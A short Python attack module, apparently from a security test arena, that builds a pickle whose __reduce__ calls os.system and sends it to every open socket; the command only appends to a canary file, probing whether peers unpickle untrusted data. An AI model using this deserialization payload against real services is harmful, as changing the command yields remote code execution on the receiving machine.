"""Sends a pickle that would run a command if anybody read it."""

import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("echo ran >> @arena@/canary",)


def attack():
    for fd in sockets():
        os.write(fd, frame(pickle.dumps(Command())))
